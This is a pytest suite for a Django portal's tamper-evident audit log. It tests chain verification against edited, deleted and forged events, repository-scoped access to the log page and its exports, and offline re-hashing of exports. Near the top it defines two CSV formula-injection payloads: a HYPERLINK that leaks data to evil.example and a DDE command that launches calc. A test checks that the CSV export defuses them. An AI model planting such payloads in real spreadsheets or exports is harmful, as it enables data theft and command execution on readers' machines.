"""The audit log: the chain verifier names the first broken link, the page and exports show each
person only their repositories' events, and an export can be re-verified offline."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import secrets
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.management import CommandError, ManagementUtility, call_command
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from delegations import services
from delegations.audit.chain import GENESIS_HASH, Breakage, audit_chain_verify, hash_of
from delegations.models import AuditChainHead, AuditEvent, DelegationRequest
from tests.factories import make_user, submit_request

pytestmark = pytest.mark.django_db

MALICIOUS_COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
# A directory may hand the portal any username; Django's own validator is not in the way.
MALICIOUS_OWNER = "=cmd|' /C calc'!A0"


@pytest.fixture
def chain(repository, people) -> list[AuditEvent]:
    """A log written by the real services: the repository's registration and trust set-up, two
    requests, an approval and a rejection."""
    approved = submit_request(repository, people["bob"])
    services.request_approve(request_id=approved.pk, acting_user=people["alice"], comment="ok")
    rejected = submit_request(repository, people["dave"], team="dev")
    services.request_reject(
        request_id=rejected.pk, acting_user=people["olga"], comment="not your repository"
    )
    events = list(AuditEvent.objects.order_by("id"))
    assert [e.action for e in events[-4:]] == [
        "request.submitted",
        "request.approved",
        "request.submitted",
        "request.rejected",
    ]
    return events


def verify_command() -> tuple[bool, str]:
    """What `manage.py audit_verify` says, and whether it passed."""
    out = io.StringIO()
    try:
        call_command("audit_verify", stdout=out)
    except CommandError as error:
        return False, str(error)
    return True, out.getvalue()


@contextmanager
def undone() -> Iterator[None]:
    """Tamper inside, and have the database back as it was afterwards."""
    savepoint = transaction.savepoint()
    try:
        yield
    finally:
        transaction.savepoint_rollback(savepoint)


# -- the verifier ---------------------------------------------------------------------------------


def test_an_untouched_chain_is_intact(chain):
    passed, output = verify_command()

    assert passed, output
    assert output.strip() == f"Audit chain intact: {len(chain)} events, last hash {chain[-1].hash}"


def test_an_empty_log_is_intact():
    assert verify_command() == (True, f"Audit chain intact: 0 events, last hash {GENESIS_HASH}\n")


def test_a_broken_chain_exits_with_status_1(chain, capsys, monkeypatch):
    AuditEvent.objects.filter(pk=chain[1].pk).update(actor_name="mallory")
    # The command line sets Django up again, which would configure logging anew and drop the
    # suite's secret watch from the root logger: Django is set up already.
    monkeypatch.setattr("django.utils.log.configure_logging", lambda *args: None)

    with pytest.raises(SystemExit) as exited:
        ManagementUtility(["manage.py", "audit_verify"]).execute()

    assert exited.value.code == 1
    assert f"Event #{chain[1].pk} (" in capsys.readouterr().err


def _one_detail_edited(event: AuditEvent) -> dict:
    key, value = next(iter(event.details.items()))
    return {"details": {**event.details, key: f"{value}-edited"}}


# Each edit of a field the hash covers, as an `update()` on the row.
EDITS: dict[str, Callable[[AuditEvent], dict]] = {
    "a detail value": _one_detail_edited,
    "an added detail": lambda e: {"details": {**e.details, "comment": "approved by the CTO"}},
    "the actor name": lambda e: {"actor_name": "mallory"},
    "the time": lambda e: {"created_at": e.created_at - timedelta(seconds=1)},
    "the action": lambda e: {"action": "request.withdrawn"},
    "the request": lambda e: {
        "request": None if e.request_id else DelegationRequest.objects.order_by("id").first()
    },
    "the repository": lambda e: {"repository": None},
    "the previous hash": lambda e: {"previous_hash": secrets.token_hex(32)},
    "the hash": lambda e: {"hash": secrets.token_hex(32)},
}


@pytest.mark.parametrize("edit", EDITS, ids=lambda name: name.replace(" ", "-"))
def test_editing_any_event_is_named_as_changed(chain, edit):
    for position, event in enumerate(chain):
        with undone():
            assert AuditEvent.objects.filter(pk=event.pk).update(**EDITS[edit](event)) == 1

            broken = audit_chain_verify().broken
            passed, message = verify_command()

        assert broken is not None, f"editing {edit} of event {position} went unnoticed"
        assert (broken.problem, broken.event_id) == (Breakage.CONTENT_CHANGED, event.pk), position
        assert not passed
        assert f"Event #{event.pk} (" in message
        assert "its content was changed after it was written" in message


def test_deleting_any_event_is_named(chain):
    for position, event in enumerate(chain):
        with undone():
            AuditEvent.objects.filter(pk=event.pk).delete()

            broken = audit_chain_verify().broken
            passed, message = verify_command()

        assert broken is not None, f"deleting event {position} went unnoticed"
        assert not passed
        if position == len(chain) - 1:
            # Nothing follows the newest event: the chain head still names it.
            newest_left = chain[position - 1]
            assert (broken.problem, broken.event_id) == (Breakage.MISSING_AT_END, newest_left.pk)
            assert f"Event #{newest_left.pk} (" in message
            assert "the events written after it were deleted" in message
        else:
            following = chain[position + 1]
            assert (broken.problem, broken.event_id) == (Breakage.MISSING_BEFORE, following.pk)
            assert f"Event #{following.pk} (" in message
            expected = (
                "the events before it were deleted" if position == 0 else f"#{event.pk} is gone"
            )
            assert expected in message


def test_the_message_names_the_event_and_what_happened(chain):
    approval = next(e for e in chain if e.action == "request.approved")
    AuditEvent.objects.filter(pk=approval.pk).update(details={"comment": "fine by me"})

    passed, message = verify_command()

    assert not passed
    when = approval.created_at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
    assert (
        f"Event #{approval.pk} ({when} UTC alice request.approved): its content was changed "
        "after it was written"
    ) in message


def test_deleting_every_event_is_noticed(chain):
    AuditEvent.objects.all().delete()

    passed, message = verify_command()

    assert not passed
    assert "every event was deleted" in message


def test_deleting_the_newest_events_and_the_head_row_is_noticed(chain):
    AuditEvent.objects.filter(pk__gte=chain[-2].pk).delete()
    AuditChainHead.objects.all().delete()

    broken = audit_chain_verify().broken

    assert broken is not None
    assert broken.problem == Breakage.HEAD_MISMATCH


def forge(after: AuditEvent, *, event_id: int, chain_to: str | None = None) -> AuditEvent:
    """A row written straight into the table, hashed as the portal would hash it."""
    forged = AuditEvent(
        id=event_id,
        created_at=after.created_at + timedelta(seconds=1),
        actor_name="mallory",
        action="request.approved",
        request_id=after.request_id,
        repository_id=after.repository_id,
        details={"comment": "looks fine"},
        previous_hash=chain_to or after.hash,
    )
    forged.hash = hash_of(forged)
    forged.save(force_insert=True)
    return forged


def test_a_forged_event_appended_to_the_chain_is_noticed(chain):
    # Perfectly chained and hashed, but written without moving the chain head.
    forged = forge(chain[-1], event_id=chain[-1].pk + 1)

    broken = audit_chain_verify().broken
    passed, message = verify_command()

    assert (broken.problem, broken.event_id) == (Breakage.ADDED_AT_END, forged.pk)
    assert not passed
    assert f"Event #{forged.pk} (" in message
    assert f"the chain head still ends at event #{chain[-1].pk}" in message


def test_a_forged_event_that_does_not_follow_the_last_is_noticed(chain):
    forged = forge(chain[-1], event_id=chain[-1].pk + 1, chain_to=secrets.token_hex(32))
    AuditChainHead.objects.update(last_hash=forged.hash)

    broken = audit_chain_verify().broken

    assert (broken.problem, broken.event_id) == (Breakage.NOT_CHAINED, forged.pk)


def test_an_event_replaced_by_a_forged_one_is_noticed(chain):
    # The forger keeps the id and chains to the event before, but cannot give the forged row
    # the hash the next event was chained to.
    replaced = chain[4]
    AuditEvent.objects.filter(pk=replaced.pk).delete()
    forge(chain[3], event_id=replaced.pk)

    broken = audit_chain_verify().broken
    passed, message = verify_command()

    assert (broken.problem, broken.event_id) == (Breakage.NOT_CHAINED, chain[5].pk)
    assert not passed
    assert f"Event #{chain[5].pk} (" in message
    assert f"it does not follow event #{replaced.pk} before it" in message


# -- the page -------------------------------------------------------------------------------------


@pytest.fixture
def other_repository():
    """A second repository with an owner of its own; registering it writes one event."""
    repository = services.repository_register(
        dtr_host="dtr.example.org",
        namespace="elsewhere",
        name="api",
        notary_url="http://notary.invalid",
        owners_group="owners:elsewhere/api",
        check_notary=False,  # never read here
    )
    owner = make_user("zoe", teams=("ops",), owns=(repository.owners_group,))
    return repository, owner


@pytest.fixture
def staff():
    return get_user_model().objects.create_user("auditor", password="x", is_staff=True)


def shown_event_ids(response) -> set[int]:
    return {event.pk for event, *_ in response.context["rows"]}


def test_people_who_are_neither_owners_nor_staff_get_403(client, chain, people):
    client.force_login(people["bob"])
    for name in ("audit_log", "audit_export_csv", "audit_export_json"):
        assert client.get(reverse(f"delegations:{name}")).status_code == 403, name


def test_the_page_needs_a_login(client):
    response = client.get(reverse("delegations:audit_log"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_an_owner_of_another_repository_sees_nothing_of_this_one(
    client, chain, repository, other_repository
):
    elsewhere, zoe = other_repository
    client.force_login(zoe)

    page = client.get(reverse("delegations:audit_log"))
    exported = json.loads(export(client, "json", {}))["events"]
    forced = client.get(reverse("delegations:audit_log"), {"repository": repository.pk})
    forced_export = client.get(
        reverse("delegations:audit_export_csv"), {"repository": repository.pk}
    )

    own = set(AuditEvent.objects.filter(repository=elsewhere).values_list("id", flat=True))
    assert shown_event_ids(page) == own
    assert {record["id"] for record in exported} == own
    assert repository.path not in page.content.decode()
    assert forced.status_code == 400
    assert shown_event_ids(forced) == set()
    assert forced_export.status_code == 400


def test_an_owner_sees_the_events_of_their_repository_and_the_link_in_the_navigation(
    client, chain, people, other_repository
):
    client.force_login(people["alice"])

    page = client.get(reverse("delegations:audit_log"))

    assert shown_event_ids(page) == {event.pk for event in chain}
    assert f'href="{reverse("delegations:audit_log")}">Audit</a>' in page.content.decode()


def test_staff_see_every_event(client, chain, staff, other_repository):
    client.force_login(staff)

    page = client.get(reverse("delegations:audit_log"))

    assert shown_event_ids(page) == set(AuditEvent.objects.values_list("id", flat=True))
    assert len(shown_event_ids(page)) == len(chain) + 1
    assert ">Audit</a>" in page.content.decode()


def test_members_have_no_audit_link(client, chain, people):
    client.force_login(people["bob"])
    page = client.get(reverse("delegations:request_list"))
    assert ">Audit</a>" not in page.content.decode()


def test_the_page_lists_newest_first_with_readable_details(client, chain, people):
    client.force_login(people["alice"])

    page = client.get(reverse("delegations:audit_log"))
    text = page.content.decode()

    assert [event.pk for event, *_ in page.context["rows"]] == [e.pk for e in reversed(chain)]
    submitted = DelegationRequest.objects.get(requester=people["bob"])
    (headline, rest) = next(
        (headline, rest)
        for event, headline, rest in page.context["rows"]
        if event.action == "request.submitted" and event.request_id == submitted.pk
    )
    # At once: what happened. On demand: the key and certificate, the same on every event.
    assert {line.label: line.value for line in headline}["Team"] == submitted.team
    lines = {line.label: line.value for line in rest}
    assert lines["Certificate fingerprint (SHA-256)"] == submitted.certificate_fingerprint
    assert lines["Key ID"] == submitted.canonical_key_id
    assert lines["Roles"] == f"targets/releases, targets/{submitted.team}"
    assert "<summary>Details</summary>" in text
    assert "pending → approved" in text
    assert "not your repository" in text
    assert reverse("delegations:request_detail", args=[submitted.pk]) in text


def test_filters(client, chain, people, repository, other_repository):
    late = submit_request(repository, make_user("erin", teams=("qa",)))
    services.request_approve(
        request_id=late.pk,
        acting_user=people["olga"],
        comment="back-dated",
        now=datetime(2025, 1, 10, 12, 0, tzinfo=UTC),
    )
    client.force_login(people["alice"])

    def shown(**filters) -> set[int]:
        response = client.get(reverse("delegations:audit_log"), filters)
        assert response.status_code == 200, response.context["form"].errors
        return shown_event_ids(response)

    events = AuditEvent.objects.filter(repository=repository)
    assert shown(actor="olga") == set(events.filter(actor_name="olga").values_list("id", flat=True))
    assert shown(action="request.rejected") == {chain[-1].pk}
    assert shown(request=late.pk) == set(late.audit_events.values_list("id", flat=True))
    assert shown(repository=repository.pk) == set(events.values_list("id", flat=True))
    back_dated = late.audit_events.get(action="request.approved").pk
    assert shown(date_from="2025-01-10", date_to="2025-01-10") == {back_dated}
    assert shown(date_to="2025-01-09") == set()
    assert back_dated not in shown(date_from="2025-01-11")
    assert shown(actor="olga", action="request.approved") == {back_dated}

    wrong = client.get(
        reverse("delegations:audit_log"), {"date_from": "2025-01-11", "date_to": "2025-01-10"}
    )
    assert wrong.status_code == 400
    assert "The end date is before the start date." in wrong.content.decode()


def test_pages_keep_the_filters(client, repository, people):
    for number in range(55):
        services.repository_update(
            repository_id=repository.pk,
            notary_url=f"http://notary-{number}.test",
            owners_group=repository.owners_group,
            acting_user=people["alice"],
            confirm_notary_move=True,
        )
    client.force_login(people["alice"])

    page = client.get(reverse("delegations:audit_log"), {"action": "repository.updated"})

    assert len(page.context["rows"]) == 50
    assert "?action=repository.updated&amp;page=2" in page.content.decode()


def add_events(repository, actor, count: int) -> None:
    """`count` more events through a service: changes of the repository's Notary URL."""
    start = AuditEvent.objects.count()
    for number in range(start, start + count):
        services.repository_update(
            repository_id=repository.pk,
            notary_url=f"http://notary-{number}.test",
            owners_group=repository.owners_group,
            acting_user=actor,
            confirm_notary_move=True,
        )


@pytest.mark.parametrize("viewer", ["alice", "staff"])
def test_the_number_of_queries_does_not_grow_with_the_events_shown(
    client, repository, people, staff, viewer
):
    request = submit_request(repository, people["bob"])
    services.request_approve(request_id=request.pk, acting_user=people["alice"])
    client.force_login(staff if viewer == "staff" else people[viewer])
    urls = [
        reverse(f"delegations:{name}")
        for name in ("audit_log", "audit_export_csv", "audit_export_json")
    ]

    def queries() -> list[int]:
        counts = []
        for url in urls:
            with CaptureQueriesContext(connection) as captured:
                response = client.get(url)
                if response.streaming:
                    b"".join(response.streaming_content)
            counts.append(len(captured))
        return counts

    assert AuditEvent.objects.count() == 5
    few = queries()
    add_events(repository, people["alice"], 35)
    assert len(client.get(urls[0]).context["rows"]) == 40
    assert queries() == few


# -- exports --------------------------------------------------------------------------------------


def export(client, kind: str, filters: dict) -> str:
    response = client.get(reverse(f"delegations:audit_export_{kind}"), filters)
    assert response.status_code == 200
    assert response.streaming
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content).decode("utf-8")


def offline_hash(record: dict) -> str:
    """The chain's hash as an auditor who holds the audit key recomputes it from an exported
    record, without the portal's code."""
    content = {
        "previous_hash": record["previous_hash"],
        "created_at": record["created_at"],
        "actor": record["actor"],
        "action": record["action"],
        "request": record["request_id"],
        "repository": record["repository_id"],
        "details": record["details"],
    }
    encoded = json.dumps(content, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    key = django_settings.PORTAL_AUDIT_KEY.encode("utf-8")
    return hmac.new(key, encoded.encode("utf-8"), hashlib.sha256).hexdigest()


def assert_chain_holds(records: list[dict], head: str) -> None:
    previous = GENESIS_HASH
    for record in records:
        assert record["previous_hash"] == previous, record["id"]
        assert offline_hash(record) == record["hash"], record["id"]
        previous = record["hash"]
    assert previous == head


def read_csv(text: str) -> list[dict]:
    def unescape(cell: str) -> str:
        return cell[1:] if cell.startswith("'") else cell

    records = []
    for row in csv.DictReader(io.StringIO(text)):
        record = {key: unescape(value) for key, value in row.items()}
        for key in ("id", "request_id", "repository_id"):
            record[key] = int(record[key]) if record[key] else None
        record["details"] = json.loads(record["details"])
        records.append(record)
    return records


@pytest.fixture
def hostile_chain(chain, repository, people):
    """The chain, and a rejection by an owner whose name and comment are spreadsheet formulas."""
    mallory = make_user(MALICIOUS_OWNER, owns=(repository.owners_group,))
    hostile = submit_request(repository, make_user("erin", teams=("qa",)))
    services.request_reject(request_id=hostile.pk, acting_user=mallory, comment=MALICIOUS_COMMENT)
    return [*chain, *AuditEvent.objects.filter(pk__gt=chain[-1].pk).order_by("id")]


def test_a_full_export_re_verifies_offline(client, hostile_chain, staff):
    client.force_login(staff)
    head = AuditChainHead.objects.get().last_hash

    exported = json.loads(export(client, "json", {}))
    from_csv = read_csv(export(client, "csv", {}))

    assert exported["chain_head"] == head
    assert [record["id"] for record in exported["events"]] == [e.pk for e in hostile_chain]
    assert_chain_holds(exported["events"], head)
    assert from_csv == exported["events"]
    assert_chain_holds(from_csv, head)
    gun = hostile_chain[-1].repository.gun
    assert exported["events"][-1]["repository"] == gun
    assert exported["events"][-1]["details"]["comment"] == MALICIOUS_COMMENT
    assert exported["events"][-1]["actor"] == MALICIOUS_OWNER
    assert exported["events"][-1]["created_at"].endswith("+00:00")


def test_exports_hold_the_filtered_events(client, chain, people):
    client.force_login(people["alice"])
    request = DelegationRequest.objects.get(requester=people["bob"])
    wanted = list(request.audit_events.order_by("id").values_list("id", flat=True))

    for kind in ("csv", "json"):
        text = export(client, kind, {"request": request.pk})
        records = read_csv(text) if kind == "csv" else json.loads(text)["events"]
        assert [record["id"] for record in records] == wanted, kind
        for record in records:
            assert offline_hash(record) == record["hash"]
            assert record["request_id"] == request.pk


def test_the_csv_export_defuses_formulas(client, hostile_chain, staff):
    client.force_login(staff)

    rows = list(csv.reader(io.StringIO(export(client, "csv", {}))))

    cells = [cell for row in rows for cell in row]
    assert f"'{MALICIOUS_OWNER}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
